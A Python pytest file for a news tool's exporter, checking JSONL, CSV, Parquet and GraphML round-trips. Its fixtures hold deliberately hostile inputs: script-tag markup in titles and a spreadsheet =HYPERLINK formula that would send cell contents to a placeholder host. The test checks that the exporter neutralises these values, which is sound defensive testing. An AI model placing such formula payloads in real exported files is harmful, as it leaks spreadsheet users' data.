"""Exports: each format is written, then read back and checked against the store."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import xml.etree.ElementTree as ET
import zipfile

import pytest
from test_store import sample

from newsprism.errors import UsageError
from newsprism.render import SCHEMA
from newsprism.store.db import Store
from newsprism.store.export import TABLES, export

G = "{http://graphml.graphdrawing.org/xmlns}"


@pytest.fixture
def store(tmp_path):
    with Store(tmp_path / "n.db") as s:
        s.add(sample("a1", "Harbour Gazette", 3, speaker="Ramezan Sharif"))
        s.add(sample("a2", "Le Port", 4, speaker="Ramezan Sharif", lang="fr"))
        # hostile text: markup, quotes, ampersands and a control character must survive export
        nasty = sample("a3", "Tribune <b>&amp;</b>", 5, speaker="Ana \"Ruiz\" <x>")
        art = dataclasses.replace(nasty.article, title="A & B <script>\x0b\"end\"")
        s.add(dataclasses.replace(nasty, article=art))
        s.set_story("a1", "s1")
        s.set_story("a2", "s1", copy_of="a1")
        s.set_story("a3", "s2")
        yield s


def test_jsonl(store, tmp_path):
    out = tmp_path / "out" / "all.jsonl"
    res = export(store, "jsonl", out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert res["counts"] == {"articles": 3} and len(lines) == 3
    docs = [json.loads(x) for x in lines]
    assert [d["id"] for d in docs] == ["a1", "a2", "a3"]
    assert docs[1]["story_id"] == "s1" and docs[1]["copy_of"] == "a1"
    for d in docs:
        assert d["schema"] == SCHEMA
        for q in d["quotes"]:
            assert d["text"][q["start"]:q["end"]]
    assert docs[0]["quotes"][0]["via"] == [{"entity": "e2", "name": "Coastal Wire"}]


def test_csv_folder(store, tmp_path):
    res = export(store, "csv", tmp_path / "tables")
    assert {p.split("/")[-1] for p in res["files"]} == {f"{t}.csv" for t in TABLES}
    with open(tmp_path / "tables" / "quotes.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 6 and res["counts"]["quotes"] == 6
    q1 = [r for r in rows if r["article_id"] == "a1" and r["quote_id"] == "q1"][0]
    assert q1["speaker_name"] == "Ramezan Sharif" and q1["via"] == "Coastal Wire"
    assert q1["text"].startswith("Dock workers")
    with open(tmp_path / "tables" / "events.csv", encoding="utf-8", newline="") as f:
        ev = list(csv.DictReader(f))[0]
    assert (ev["type"], ev["actors"], ev["targets"], ev["location"]) == \
        ("ACCUSE", "the union", "the port authority", "Valmora")
    with open(tmp_path / "tables" / "articles.csv", encoding="utf-8", newline="") as f:
        arts = {r["article_id"]: r for r in csv.DictReader(f)}
    assert arts["a3"]["title"] == "A & B <script>\x0b\"end\"" and arts["a2"]["copy_of"] == "a1"


def test_csv_zip(store, tmp_path):
    out = tmp_path / "tables.zip"
    export(store, "csv", out)
    with zipfile.ZipFile(out) as z:
        assert set(z.namelist()) == {f"{t}.csv" for t in TABLES}
        stories = list(csv.DictReader(io.StringIO(z.read("stories.csv").decode("utf-8"))))
    assert {(s["story_id"], s["n_articles"]) for s in stories} == {("s1", "2"), ("s2", "1")}


def test_parquet(store, tmp_path):
    import pyarrow.parquet as pq
    export(store, "parquet", tmp_path / "pq")
    quotes = pq.read_table(tmp_path / "pq" / "quotes.parquet").to_pylist()
    assert len(quotes) == 6 and isinstance(quotes[0]["start"], int)
    arts = pq.read_table(tmp_path / "pq" / "articles.parquet")
    assert arts.column("published_inferred").to_pylist() == [False, False, False]
    assert str(arts.schema.field("published_inferred").type) == "bool"
    timexes = pq.read_table(tmp_path / "pq" / "timexes.parquet").to_pylist()
    assert [t["text"] for t in timexes] == ["Monday"] * 3


def test_parquet_of_empty_store(tmp_path):
    import pyarrow.parquet as pq
    with Store(tmp_path / "e.db") as s:
        export(s, "parquet", tmp_path / "pq")
    assert pq.read_table(tmp_path / "pq" / "events.parquet").num_rows == 0


def test_graphml(store, tmp_path):
    out = tmp_path / "g.graphml"
    res = export(store, "graphml", out)
    root = ET.parse(out).getroot()  # well-formed despite the hostile strings
    graph = root.find(f"{G}graph")
    keys = {k.get("id"): k.get("attr.name") for k in root.findall(f"{G}key")}
    nodes = {n.get("id"): {keys[d.get("key")]: d.text for d in n.findall(f"{G}data")}
             for n in graph.findall(f"{G}node")}
    edges = [(e.get("source"), e.get("target"),
              {keys[d.get("key")]: d.text for d in e.findall(f"{G}data")})
             for e in graph.findall(f"{G}edge")]
    assert res["counts"]["nodes"] == len(nodes) and res["counts"]["edges"] == len(edges)
    # the same speaker in two articles is one cross-document node
    sharif = [i for i, n in nodes.items() if n.get("name") == "Ramezan Sharif"]
    assert len(sharif) == 1
    spoke = [e for e in edges if e[0] == sharif[0] and e[2]["relation"] == "speaker"]
    assert {e[2]["article"] for e in spoke} == {"a1", "a2"}
    assert nodes["article:a3"]["title"] == "A & B <script>\"end\""
    rels = {e[2]["relation"] for e in edges}
    assert {"actor", "target", "speaker", "via", "mentions", "location"} <= rels
    for s, t, _ in edges:
        assert s in nodes and t in nodes


def test_linked_event_mentions_keep_their_link(tmp_path):
    """A second mention of one happening is stored with the id it points at, exported in the
    events table and drawn as a same_as edge."""
    a = sample("a9")
    first = a.events[0]
    again = dataclasses.replace(first, id="v2", same_as="v1")
    with Store(tmp_path / "l.db") as s:
        s.add(dataclasses.replace(a, events=(first, again)))
        rows = dict(s.conn.execute("SELECT id, same_as FROM events").fetchall())
        assert rows == {"v1": None, "v2": "v1"}
        export(s, "csv", tmp_path / "csv")
        with open(tmp_path / "csv" / "events.csv", encoding="utf-8") as f:
            got = {r["event_id"]: r["same_as"] for r in csv.DictReader(f)}
        assert got == {"v1": "", "v2": "v1"}
        export(s, "graphml", tmp_path / "g.graphml")
    graph = ET.parse(tmp_path / "g.graphml").getroot().find(f"{G}graph")
    pairs = {(e.get("source"), e.get("target")) for e in graph.findall(f"{G}edge")}
    assert ("event:a9:v2", "event:a9:v1") in pairs


def test_bad_format_and_paths(store, tmp_path):
    with pytest.raises(UsageError):
        export(store, "xlsx", tmp_path / "x")
    (tmp_path / "file.txt").write_text("x")
    with pytest.raises(UsageError):
        export(store, "parquet", tmp_path / "file.txt")
    with pytest.raises(UsageError):
        export(store, "jsonl", tmp_path)


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    import pyarrow.parquet as pq
    with Store(tmp_path / "f.db") as s:
        art = sample("f1", "@Wire", 3, speaker="Ramezan Sharif")
        title = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
        s.add(dataclasses.replace(art, article=dataclasses.replace(art.article, title=title)))
        export(s, "csv", tmp_path / "t")
        export(s, "parquet", tmp_path / "p")
    with open(tmp_path / "t" / "articles.csv", encoding="utf-8", newline="") as f:
        row = list(csv.DictReader(f))[0]
    assert row["title"] == "'" + title and row["outlet"] == "'@Wire"
    assert row["article_id"] == "f1"                     # ordinary cells untouched
    # parquet keeps the bytes exact for code that slices text by offsets
    assert pq.read_table(tmp_path / "p" / "articles.parquet").column("title").to_pylist() == [title]
